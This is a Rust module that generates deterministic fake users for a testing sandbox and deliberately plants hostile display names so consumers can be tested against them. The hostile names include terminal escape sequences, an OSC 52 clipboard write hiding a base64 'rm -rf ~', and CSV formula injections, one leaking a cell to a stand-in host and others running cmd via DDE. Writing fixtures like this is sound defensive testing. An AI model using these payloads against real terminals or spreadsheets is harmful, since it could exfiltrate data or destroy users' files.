//! The deterministic data generator: every record is a pure function of (seed, provider, index), and
//! every id or email maps back to its index in O(1), so a million users cost nothing up front.
//!
//! # Index rules (the one place they live; tests and audits rely on them)
//! * **Hostile records**: `index % 25 == 7` (never the owner). The kind is
//!   `HostileKind::ALL[(index / 25) % 8]`, so the first 200 users hold every kind once. See
//!   [`hostile_kind`].
//! * **Names like spreadsheet formulas**: `index % 25 == 19`. The first name is a formula
//!   (`=HYPERLINK(..)`, `@SUM(..)`, `+1..`, `-1..`, cycling with `index / 25`), as a CSV export
//!   would carry it into a spreadsheet. See [`formula_first_name`].
//! * **Odd JSON**: `index % 25 == 13`. The record carries `x_sandbox_future_field` with a number beyond
//!   64 bits (`123456789012345678901234567890`), a number written `1.0e3` and keys out of alphabetical
//!   order. See [`has_odd_json`].
//! * **Zoo block reasons**: see [`zoo_block`] (`index % 100 == 99` is an unknown future value, the only
//!   place where a Zoo body leaves the published enum on purpose).
//! * **Scanova invitation states**: see [`scanova_invitation_state`].
//! * **Roles**: Zoo org role and Zooza team role depend on `index % 10` (see the provider modules).

use chrono::{DateTime, FixedOffset, Offset as _, SecondsFormat, Utc};

pub(crate) use super::ids::{quip_id, quip_number, uuid_from, zoo_index_from_uuid, zoo_uuid};
pub(crate) use super::odd_json::{future_field, render};
use super::organisation;
pub(crate) use super::residue_seq::ResidueSeq;
pub(crate) use super::seeded_rng::{QUIP, Rng, SCANOVA, ZOO, ZOOZA, mix};

/// 2021-01-01T00:00:00Z: every generated date counts from here, never from the clock.
pub(crate) const BASE_EPOCH_SECS: i64 = 1_609_459_200;
/// The sandbox's fixed "now" (2026-06-01T00:00:00Z), for ages, expiries and "soon".
pub(crate) const NOW_EPOCH_SECS: i64 = crate::sandbox_clock::SANDBOX_NOW_EPOCH_SECS;

/// What makes a hostile record hostile. Applied to names, titles and other display strings.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum HostileKind {
    /// CSI sequences: clear screen and home the cursor (`ESC [2J ESC [H`).
    Csi,
    /// OSC 52 clipboard write, BEL-terminated.
    Osc52,
    /// OSC 0 window-title change.
    OscTitle,
    /// C0 and C1 controls: NUL, BEL, backspaces, carriage return, NEL, CSI (U+009B).
    Controls,
    /// Bidi override (U+202E) and zero-width characters.
    BidiZeroWidth,
    /// Double-width CJK text and emoji.
    Wide,
    /// A 5,000-character string.
    Long,
    /// `null` where a value is expected (name fields, titles).
    Nulls,
}

impl HostileKind {
    /// Every kind, in the order the index rule cycles through them.
    pub const ALL: [HostileKind; 8] = [
        HostileKind::Csi,
        HostileKind::Osc52,
        HostileKind::OscTitle,
        HostileKind::Controls,
        HostileKind::BidiZeroWidth,
        HostileKind::Wide,
        HostileKind::Long,
        HostileKind::Nulls,
    ];

    /// Makes `text` hostile. `Nulls` leaves the text alone: the writers put `null` instead.
    pub(crate) fn taint(self, text: &str) -> String {
        match self {
            HostileKind::Csi => format!("{text}\u{1b}[2J\u{1b}[H\u{1b}[31m"),
            HostileKind::Osc52 => format!("{text}\u{1b}]52;c;cm0gLXJmIH4=\u{7}"),
            HostileKind::OscTitle => format!("\u{1b}]0;owned by sandbox\u{7}{text}"),
            HostileKind::Controls => {
                format!("{text}\u{0}\u{7}\u{8}\u{8}\u{8}\rX\u{85}\u{9b}2J\u{7f}")
            }
            HostileKind::BidiZeroWidth => format!("\u{202e}{text}\u{200b}\u{200d}\u{feff}\u{202c}"),
            HostileKind::Wide => format!("{text} 山田太郎・東京都渋谷区🙂👩‍👩‍👧"),
            HostileKind::Long => {
                // Cycle the text (and a space) until 5,000 characters, counting as we go.
                let unit: Vec<char> = text.chars().chain(std::iter::once(' ')).collect();
                unit.iter().cycle().take(5_000).collect()
            }
            HostileKind::Nulls => text.to_owned(),
        }
    }
}

/// The hostile kind of the record at `index`, if it is one: `index % 25 == 7`, kind
/// `ALL[(index / 25) % 8]`.
pub fn hostile_kind(index: u64) -> Option<HostileKind> {
    (index % 25 == 7).then(|| HostileKind::ALL[((index / 25) % 8) as usize])
}

/// The first name of the record at `index` when it is one named like a spreadsheet formula
/// (`index % 25 == 19`): the forms of OWASP's CSV injection examples, each keeping the real name
/// so the user can still be told apart.
pub fn formula_first_name(index: u64, first: &str) -> Option<String> {
    if index % 25 != 19 {
        return None;
    }
    Some(match (index / 25) % 4 {
        0 => format!("=HYPERLINK(\"https://sandbox.invalid/?leak=\"&A1,\"{first}\")"),
        1 => format!("@SUM(1+9)*cmd|' /C calc'!A0 {first}"),
        2 => format!("+1-555-0100 {first}"),
        _ => format!("-1+1+cmd|' /C notepad'!A0 {first}"),
    })
}

/// Whether the record at `index` carries unusual-but-valid JSON: `index % 25 == 13`.
pub fn has_odd_json(index: u64) -> bool {
    index % 25 == 13
}

/// Zoo's `block` value for a user.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ZooBlock {
    /// Not blocked (`null`).
    None,
    /// One of the published `BlockReason` values.
    Known(&'static str),
    /// A value newer than the spec (`fraud_review`, `chargeback_hold`): `index % 100 == 99`.
    Future(&'static str),
}

impl ZooBlock {
    /// The wire value, if any.
    pub fn as_str(self) -> Option<&'static str> {
        match self {
            ZooBlock::None => None,
            ZooBlock::Known(value) | ZooBlock::Future(value) => Some(value),
        }
    }
}

/// Zoo block rule: `index % 100 == 99` → a future value (alternating `fraud_review` /
/// `chargeback_hold`); otherwise by `index % 20`: 3 `missing_payment_method`, 5 `payment_method_failed`,
/// 9 `billing_threshold_reached`, 11 `pay_as_you_go_disabled`, 15 `upgrade_downgrade_abuse`, 17 `admin`,
/// anything else not blocked.
pub fn zoo_block(index: u64) -> ZooBlock {
    if index % 100 == 99 {
        return ZooBlock::Future(if (index / 100).is_multiple_of(2) {
            "fraud_review"
        } else {
            "chargeback_hold"
        });
    }
    match index % 20 {
        3 => ZooBlock::Known("missing_payment_method"),
        5 => ZooBlock::Known("payment_method_failed"),
        9 => ZooBlock::Known("billing_threshold_reached"),
        11 => ZooBlock::Known("pay_as_you_go_disabled"),
        15 => ZooBlock::Known("upgrade_downgrade_abuse"),
        17 => ZooBlock::Known("admin"),
        _ => ZooBlock::None,
    }
}

/// A Scanova shared user's invitation state.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum InvitationState {
    /// The account owner (index 0): neither sent nor accepted.
    Owner,
    /// Added but no invitation sent yet.
    NotSent,
    /// Sent `age_days` before the sandbox's fixed "now", not accepted.
    Pending {
        /// Days since the invitation went out.
        age_days: u64,
    },
    /// Sent and accepted.
    Accepted,
}

/// Scanova invitation rule: 0 owner; `index % 17 == 3` not sent; `index % 5 == 1` pending, with an
/// age of `(index * 37) % 400` days (some fresh, some stale); everything else accepted.
pub fn scanova_invitation_state(index: u64) -> InvitationState {
    if index == 0 {
        InvitationState::Owner
    } else if index % 17 == 3 {
        InvitationState::NotSent
    } else if index % 5 == 1 {
        InvitationState::Pending {
            age_days: (index * 37) % 400,
        }
    } else {
        InvitationState::Accepted
    }
}

/// Whether the record at `index` leaves a published schema on purpose: the `Nulls` hostile kind
/// (null names) and Zoo's future block values. Schema-validation tests skip exactly these.
pub fn breaks_schema_on_purpose(index: u64) -> bool {
    hostile_kind(index) == Some(HostileKind::Nulls)
        || matches!(zoo_block(index), ZooBlock::Future(_))
}

/// A generated person: the base every provider's user is built on.
pub(crate) struct Person {
    pub(crate) first: String,
    pub(crate) last: String,
    pub(crate) email: String,
    pub(crate) created_secs: i64,
    pub(crate) hostile: Option<HostileKind>,
}

impl Person {
    /// The display name, hostile when the record is.
    pub(crate) fn full_name(&self) -> String {
        format!("{} {}", self.first, self.last)
    }
}

/// The person at `index` of `provider`'s population: a pooled person of the one organisation at
/// even indices (see [`super::organisation`]), the provider's own user at odd ones.
pub(crate) fn person(seed: u64, provider: u64, index: u64) -> Person {
    let mut rng = Rng::new(seed, provider, index, 1);
    let identity = match organisation::seated_person(provider, index) {
        Some(pooled) => organisation::pooled_identity(seed, provider, index, pooled),
        None => organisation::own_identity(&mut rng, index),
    };
    let hostile = hostile_kind(index);
    let (first, last) = match hostile {
        Some(kind) => (kind.taint(&identity.first), kind.taint(&identity.last)),
        None => (
            formula_first_name(index, &identity.first).unwrap_or(identity.first),
            identity.last,
        ),
    };
    Person {
        first,
        last,
        email: identity.email,
        created_secs: created_secs(index, &mut rng),
        hostile,
    }
}

/// The index an email was generated from, if it is one of `provider`'s (checked by regenerating).
/// The number before the `@` is the index itself for a provider's own users (and a pooled
/// person's personal address), the pooled person's number for the organisation's addresses.
pub(crate) fn index_from_email(seed: u64, provider: u64, users: u64, email: &str) -> Option<u64> {
    let (local, _) = email.split_once('@')?;
    let number: u64 = local.rsplit('.').next()?.parse().ok()?;
    let generated_here = |index: u64| {
        index < users
            && person(seed, provider, index)
                .email
                .eq_ignore_ascii_case(email)
    };
    if generated_here(number) {
        return Some(number);
    }
    organisation::seat_of(provider, number).filter(|&index| generated_here(index))
}

/// Creation time: one user a day for the first 500, then one every ~100 s, so creation order is
/// index order (sorting by `created_at` is sorting by index) at any population size.
fn created_secs(index: u64, rng: &mut Rng) -> i64 {
    created_floor_secs(index) + rng.below(80) as i64
}

/// The earliest a user at `index` can have been created (its creation time less under 80 s of
/// jitter), known without generating the person.
pub(crate) fn created_floor_secs(index: u64) -> i64 {
    let days = index.min(500) * 86_400;
    let rest = index.saturating_sub(500) * 100;
    BASE_EPOCH_SECS + (days + rest) as i64
}

/// RFC 3339 in UTC with a `Z`, whole seconds.
pub(crate) fn rfc3339(secs: i64) -> String {
    DateTime::<Utc>::from_timestamp(secs, 0)
        .unwrap_or_default()
        .to_rfc3339_opts(SecondsFormat::Secs, true)
}

/// ISO 8601 with microseconds and a `+05:30` offset, Scanova's style.
pub(crate) fn ist_micros(secs: i64, micros: u32) -> String {
    let offset = FixedOffset::east_opt(5 * 3600 + 1800).unwrap_or_else(|| Utc.fix());
    DateTime::<Utc>::from_timestamp(secs, micros.min(999_999) * 1000)
        .unwrap_or_default()
        .with_timezone(&offset)
        .format("%Y-%m-%dT%H:%M:%S%.6f%:z")
        .to_string()
}

#[cfg(test)]
mod tests;
